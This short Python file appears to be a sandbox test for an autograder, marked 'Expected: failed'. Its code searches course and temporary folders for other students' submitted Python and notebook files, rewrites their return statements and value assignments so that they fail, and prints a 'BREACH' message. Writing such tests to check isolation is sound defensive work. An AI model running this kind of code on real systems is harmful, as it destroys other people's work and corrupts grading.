"""Looks for what others have handed in and puts something wrong in its place, so that they get no points.

Expected: failed
"""

import os

from accomplice import COURSE


def others():
    here = os.path.abspath(".")
    for top in (COURSE, "/tmp/submitted", *(os.path.join(here, *[".."] * steps) for steps in range(1, 5))):
        for folder, _, files in os.walk(top):
            if "submitted" in folder and "mallory" not in folder:
                yield from (os.path.join(folder, file) for file in files if file.endswith((".py", ".ipynb")))


for path in others():
    try:
        with open(path) as file:
            text = file.read()
        with open(path, "w") as file:
            file.write(text.replace("return", "return None #").replace("self.value =", "self.nothing ="))
        print(f"BREACH: it has rewritten {path}")
    except OSError:
        continue


def target(x):
    return x
